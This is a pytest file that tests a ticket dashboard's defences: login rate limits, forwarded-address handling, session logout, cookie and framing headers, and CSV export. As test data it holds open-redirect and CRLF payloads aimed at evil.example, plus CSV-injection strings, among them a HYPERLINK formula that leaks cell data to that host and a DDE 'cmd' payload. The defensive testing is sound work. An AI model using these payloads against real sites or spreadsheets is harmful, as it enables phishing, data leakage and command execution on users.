"""A hostile visitor at the desk: guesses in parallel, redirects off site, formulas in the CSV, old cookies, frames."""
import csv
import io
import threading
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from bot.web.dashboard.auth import ACCOUNT_LIMIT, ADDRESS_LIMIT, FAILURE_WINDOW, PAIR_LIMIT
from bot.store.models import Ticket
from tests.conversation import config_changes, settings  # noqa: F401 (fixtures)
from tests.desk import API_KEY, PASSWORD, add_api_key, add_user, csrf, login, open_ticket

BEHIND_NGINX = {"dashboard": {"trusted_proxies": 1}}


def _login_from(client, address, username="wang", password=PASSWORD, headers=None, next_=None):
    """Sign in as a browser at `address` would (the test client's REMOTE_ADDR, or X-Forwarded-For in headers)."""
    where = {"REMOTE_ADDR": address}
    token = csrf(client.get("/login", environ_base=where, headers=headers).get_data(as_text=True))
    form = {"username": username, "password": password, "csrf_token": token}
    if next_ is not None:
        form["next"] = next_
    return client.post("/login", data=form, environ_base=where, headers=headers)


def _window_passes(redis):
    """What Redis does when the lock's window ends: the counters expire (no test waits 15 minutes)."""
    for key in redis.scan_iter("minhu:login:*"):
        if redis.type(key) == b"string":
            assert 0 < redis.ttl(key) <= FAILURE_WINDOW  # every counter does end
            redis.delete(key)


def test_parallel_guesses_are_counted_before_any_is_checked(app, runtime, redis):
    """40 wrong passwords at once: only the limit's worth is checked; the right one then waits out the window."""
    add_user(runtime)
    clients = [app.test_client() for _ in range(40)]
    tokens = [csrf(c.get("/login").get_data(as_text=True)) for c in clients]
    start = threading.Barrier(len(clients))

    def guess(pair):
        client, token = pair
        start.wait()
        return client.post("/login", data={"username": "wang", "password": "guess", "csrf_token": token}).status_code

    with ThreadPoolExecutor(max_workers=len(clients)) as pool:
        answers = list(pool.map(guess, zip(clients, tokens)))
    assert answers.count(401) == PAIR_LIMIT and answers.count(429) == len(clients) - PAIR_LIMIT
    late = login(clients[0])
    assert late.status_code == 429 and "15分钟" in late.get_data(as_text=True)
    _window_passes(redis)
    assert login(clients[0]).status_code == 302


def test_one_address_guessing_many_accounts_is_stopped(client, runtime):
    add_user(runtime)
    for n in range(ADDRESS_LIMIT):
        assert _login_from(client, "10.0.0.9", username=f"user{n % 10}", password="guess").status_code == 401
    assert _login_from(client, "10.0.0.9").status_code == 429
    assert _login_from(client, "10.0.0.10").status_code == 302  # another address is not held up


def test_an_account_is_locked_across_addresses_except_where_it_signs_in(app, runtime):
    """Many addresses guessing one account lock it for new addresses; its secretary's own computer still gets in."""
    add_user(runtime)
    assert _login_from(app.test_client(), "10.1.0.1").status_code == 302  # the office computer, yesterday
    # That first sign-in was an attempt from an address the account had not used: it counted too.
    guesses = [f"10.2.0.{n // PAIR_LIMIT}" for n in range(ACCOUNT_LIMIT - 1)]
    for address in guesses:
        assert _login_from(app.test_client(), address, password="guess").status_code == 401
    assert _login_from(app.test_client(), "10.3.0.1").status_code == 429  # a new address, the right password
    assert _login_from(app.test_client(), "10.1.0.1").status_code == 302


@pytest.mark.parametrize("config_changes", [BEHIND_NGINX])
def test_behind_a_trusted_proxy_the_forwarded_address_is_counted(client, runtime):
    add_user(runtime)
    attacker, secretary = {"X-Forwarded-For": "203.0.113.5"}, {"X-Forwarded-For": "198.51.100.7"}
    for _ in range(PAIR_LIMIT):
        assert _login_from(client, "127.0.0.1", password="guess", headers=attacker).status_code == 401
    assert _login_from(client, "127.0.0.1", headers=attacker).status_code == 429
    assert _login_from(client, "127.0.0.1", headers=secretary).status_code == 302


def test_without_a_trusted_proxy_a_forwarded_address_is_not_believed(client, runtime):
    add_user(runtime)
    for n in range(PAIR_LIMIT):
        assert _login_from(client, "10.0.0.9", password="guess",
                           headers={"X-Forwarded-For": f"203.0.113.{n}"}).status_code == 401
    assert _login_from(client, "10.0.0.9", headers={"X-Forwarded-For": "198.51.100.7"}).status_code == 429


@pytest.mark.parametrize("next_", ["/\t/evil.example/phish", "/\n/evil.example/", "/\r\n/evil.example/",
                                   " //evil.example/", "/\x00/evil.example/", "\t//evil.example/",
                                   "https://evil.example/", "/\\evil.example/", "/%0D%0ALocation:x"])
def test_login_never_sends_anyone_off_site(client, runtime, next_):
    add_user(runtime)
    response = _login_from(client, "127.0.0.1", next_=next_)
    assert response.status_code == 302
    location = response.headers["Location"]
    assert urlsplit(location).netloc in ("", "localhost") and "evil" not in location
    assert not any(char in location for char in "\t\r\n\x00 ")


def test_login_still_goes_back_to_the_page_asked_for(client, runtime):
    add_user(runtime)
    response = _login_from(client, "127.0.0.1", next_="/tickets?status=open&q=%E6%BC%8F")
    assert response.headers["Location"] == "/tickets?status=open&q=%E6%BC%8F"


def test_the_csv_gives_no_spreadsheet_a_formula_to_run(secretary_client, runtime):
    said = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 138", "-3号楼漏水", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "3号楼楼顶漏水"]
    for text in said:
        open_ticket(runtime, text)
    with runtime.sessions() as db:
        db.scalars(select(Ticket)).first().assignee_name = "=1+1"
        db.commit()
    exported = secretary_client.get("/tickets.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported[1:])))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(row[9] for row in rows) == sorted(s if s == "3号楼楼顶漏水" else "'" + s for s in said)
    assert "'=1+1" in cells


def test_signing_out_ends_the_session_on_the_server_too(app, runtime):
    add_user(runtime)
    browser = app.test_client()
    assert login(browser).status_code == 302
    cookie = browser.get_cookie("minhu_session").value
    thief = app.test_client()
    thief.set_cookie("minhu_session", cookie)
    assert thief.get("/tickets").status_code == 200  # a copied cookie works while its owner is signed in
    token = csrf(browser.get("/tickets").get_data(as_text=True))
    assert browser.post("/logout", data={"csrf_token": token}).status_code == 302
    assert "/login" in thief.get("/tickets").headers["Location"]
    assert login(browser).status_code == 302 and browser.get("/tickets").status_code == 200  # signs in again


@pytest.mark.parametrize("config_changes", [BEHIND_NGINX])
def test_the_cookie_is_secure_when_the_proxy_says_https(client, runtime):
    add_user(runtime)
    over_tls = _login_from(client, "127.0.0.1", headers={"X-Forwarded-Proto": "https"})
    assert over_tls.status_code == 302 and "; Secure" in over_tls.headers["Set-Cookie"]
    plain = _login_from(client, "127.0.0.1")
    assert plain.status_code == 302 and "Secure" not in plain.headers["Set-Cookie"]


def test_the_demo_on_plain_http_keeps_its_cookie(client, runtime):
    add_user(runtime)
    response = _login_from(client, "127.0.0.1", headers={"X-Forwarded-Proto": "https"})  # no proxy trusted
    assert "Secure" not in response.headers["Set-Cookie"]
    assert client.get("/tickets").status_code == 200


@pytest.mark.parametrize("path", ["/login", "/tickets", "/no-such-page", "/healthz"])
def test_no_page_can_be_framed_or_sniffed(secretary_client, path):
    response = secretary_client.get(path)
    assert response.headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_csrf_token_of_any_characters_is_refused_not_a_crash(secretary_client):
    csrf(secretary_client.get("/tickets").get_data(as_text=True))  # the session has a token to compare with
    assert secretary_client.post("/logout", data={"csrf_token": "令牌"}).status_code == 400
    assert secretary_client.post("/logout", headers={"X-CSRF-Token": "caf\u00e9"}).status_code == 400
    assert secretary_client.get("/tickets").status_code == 200  # still signed in


@pytest.mark.parametrize("dates", [{"end_date": "9999-12-31T23:59:59-10:00"}, {"end_date": "0001-01-01"},
                                   {"start_date": "0001-01-01T00:00:00+08:00", "end_date": "0001-02-01"},
                                   {"start_date": "9999-12-31T20:00:00-08:00", "end_date": "9999-12-31"}])
def test_open311_dates_at_the_ends_of_the_calendar_are_a_clear_400(client, runtime, dates):
    add_api_key(runtime)
    response = client.get("/open311/v2/requests.json", query_string=dates, headers={"X-Api-Key": API_KEY})
    assert response.status_code == 400
    assert response.json[0]["code"] == 400 and "date" in response.json[0]["description"]


@pytest.fixture
def secretary_client(client, runtime):
    add_user(runtime)
    assert login(client).status_code == 302
    return client
